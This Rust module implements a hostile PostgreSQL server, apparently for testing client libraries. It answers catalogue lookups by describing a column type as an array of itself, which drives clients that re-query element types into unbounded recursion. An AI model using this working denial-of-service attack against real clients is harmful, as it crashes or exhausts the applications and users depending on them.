//! A PostgreSQL server (protocol 3, extended query, no authentication) whose every
//! statement returns a column of a type the client does not know, and whose catalogue
//! describes that type as an array of itself: a client that looks up a type's element
//! type by asking again recurses for as long as the server answers.

use std::io::{self, Write};
use std::net::TcpStream;

use super::read_n;

/// What the server does to the client.
#[derive(Debug, Clone, Copy)]
pub enum PostgresAttack {
    /// Type `SELF_ARRAY_OID` is an array whose element type is itself.
    SelfReferentialArrayType,
}

/// The type of the column every statement of the app's returns.
const SELF_ARRAY_OID: u32 = 100_000;
const OID: u32 = 26;
const NAME: u32 = 19;
const CHAR: u32 = 18;

fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut m = vec![kind];
    m.extend_from_slice(&(body.len() as i32 + 4).to_be_bytes());
    m.extend_from_slice(body);
    m
}

/// A row description: (name, type) per column, binary format.
fn row_description(columns: &[(&str, u32)]) -> Vec<u8> {
    let mut body = (columns.len() as i16).to_be_bytes().to_vec();
    for (name, oid) in columns {
        body.extend_from_slice(name.as_bytes());
        body.push(0);
        body.extend_from_slice(&0u32.to_be_bytes()); // table
        body.extend_from_slice(&0i16.to_be_bytes()); // column number
        body.extend_from_slice(&oid.to_be_bytes());
        body.extend_from_slice(&(-1i16).to_be_bytes()); // size
        body.extend_from_slice(&(-1i32).to_be_bytes()); // modifier
        body.extend_from_slice(&1i16.to_be_bytes()); // binary
    }
    message(b'T', &body)
}

/// A data row of binary values (`None`: NULL).
fn data_row(values: &[Option<&[u8]>]) -> Vec<u8> {
    let mut body = (values.len() as i16).to_be_bytes().to_vec();
    for value in values {
        match value {
            Some(v) => {
                body.extend_from_slice(&(v.len() as i32).to_be_bytes());
                body.extend_from_slice(v);
            }
            None => body.extend_from_slice(&(-1i32).to_be_bytes()),
        }
    }
    message(b'D', &body)
}

/// The body of an `SSLRequest` (the code 80877103).
const SSL_REQUEST: [u8; 4] = [0x04, 0xd2, 0x16, 0x2f];

/// A start-up message's body.
fn read_startup(stream: &mut TcpStream) -> io::Result<Vec<u8>> {
    let length = u32::from_be_bytes(read_n(stream, 4)?.try_into().unwrap());
    read_n(stream, (length as usize).saturating_sub(4))
}

/// Whether a statement is the client's catalogue lookup of a type.
fn is_type_lookup(query: &str) -> bool {
    query.contains("pg_catalog.pg_type")
}

pub(super) fn answer(mut stream: TcpStream, attack: PostgresAttack) -> io::Result<()> {
    let PostgresAttack::SelfReferentialArrayType = attack;
    // Start-up: a length-prefixed message without a type byte. A client that asks for
    // TLS first (`sslmode=prefer`, the default) is told no, as a server without TLS
    // does, and then sends its start-up message.
    if read_startup(&mut stream)? == SSL_REQUEST {
        stream.write_all(b"N")?;
        read_startup(&mut stream)?;
    }
    let mut out = message(b'R', &0i32.to_be_bytes());
    out.extend(message(b'K', &[0, 0, 0, 1, 0, 0, 0, 2]));
    out.extend(message(b'Z', b"I"));
    stream.write_all(&out)?;

    // Statement names to their text; the unnamed one is "".
    let mut statements = std::collections::HashMap::<String, String>::new();
    let mut portal_statement = String::new();
    let mut out = Vec::new();
    loop {
        let header = read_n(&mut stream, 5)?;
        let length = i32::from_be_bytes(header[1..5].try_into().unwrap());
        let body = read_n(&mut stream, length as usize - 4)?;
        let strings: Vec<String> = body
            .split(|b| *b == 0)
            .map(|s| String::from_utf8_lossy(s).into_owned())
            .collect();
        match header[0] {
            b'P' => {
                statements.insert(strings[0].clone(), strings[1].clone());
                out.extend(message(b'1', b""));
            }
            b'D' => {
                let query = statements
                    .get(&strings[0][1..])
                    .cloned()
                    .unwrap_or_default();
                if is_type_lookup(&query) {
                    let mut params = 1i16.to_be_bytes().to_vec();
                    params.extend_from_slice(&OID.to_be_bytes());
                    out.extend(message(b't', &params));
                    out.extend(row_description(&[
                        ("typname", NAME),
                        ("typtype", CHAR),
                        ("typelem", OID),
                        ("rngsubtype", OID),
                        ("typbasetype", OID),
                        ("nspname", NAME),
                        ("typrelid", OID),
                    ]));
                } else {
                    out.extend(message(b't', &0i16.to_be_bytes()));
                    out.extend(row_description(&[("bait", SELF_ARRAY_OID)]));
                }
            }
            b'B' => {
                // Portal name, then statement name.
                portal_statement = strings.get(1).cloned().unwrap_or_default();
                out.extend(message(b'2', b""));
            }
            b'E' => {
                let query = statements
                    .get(&portal_statement)
                    .cloned()
                    .unwrap_or_default();
                if is_type_lookup(&query) {
                    let oid = SELF_ARRAY_OID.to_be_bytes();
                    let zero = 0u32.to_be_bytes();
                    out.extend(data_row(&[
                        Some(b"_bait"),
                        Some(b"b"),
                        Some(&oid),
                        None,
                        Some(&zero),
                        Some(b"public"),
                        Some(&zero),
                    ]));
                    out.extend(message(b'C', b"SELECT 1\0"));
                } else {
                    out.extend(message(b'C', b"SELECT 0\0"));
                }
            }
            b'C' => out.extend(message(b'3', b"")),
            b'S' => {
                out.extend(message(b'Z', b"I"));
                stream.write_all(&out)?;
                out.clear();
            }
            b'X' => return Ok(()),
            _ => {}
        }
    }
}
